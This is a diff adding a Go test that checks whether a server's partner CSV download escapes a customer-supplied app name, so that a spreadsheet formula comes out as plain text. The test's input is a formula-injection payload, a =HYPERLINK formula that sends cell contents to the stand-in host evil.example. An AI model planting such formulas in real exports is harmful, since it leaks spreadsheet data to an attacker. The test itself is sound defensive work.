@@ -81,3 +81,21 @@ func TestNoLineFromTheFuture(t *testing.T) {
 		t.Errorf("the operator's line from the future: %+v, want it accepted", res)
 	}
 }
+
+// TestCSVRunsNoFormula: a name a customer gives its app reaches a
+// partner's download as text, never as a spreadsheet formula.
+func TestCSVRunsNoFormula(t *testing.T) {
+	s := start(t, sqliteStore(t), server.Config{})
+	operator := s.token(store.RoleOperator, "", "", "")
+	s.push(operator, demoLog(t))
+	const name = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	line := fmt.Sprintf(`{"type":"resource.created","time":"2026-03-01T00:00:00Z","tenant":"contoso","environment":"contoso-prod","resource":"evil","kind":"canvas_app","owner":"alice@fabrikam.example","name":%q}`, name)
+	var res struct{ Accepted int }
+	if s.json("POST", "/v1/events", s.token(store.RoleTenantAdmin, "contoso", "", ""), line, &res); res.Accepted != 1 {
+		t.Fatalf("the app was not created: %+v", res)
+	}
+	status, body := s.call("GET", "/v1/tables/credited?format=csv&q=evil", s.token(store.RolePartnerReader, "", "", "1000001"), "")
+	if status != http.StatusOK || !strings.Contains(string(body), `'=HYPERLINK(`) || strings.Contains(string(body), `,"=HYPERLINK(`) {
+		t.Errorf("the download: %d\n%s\nwant the name as text, after a '", status, body)
+	}
+}
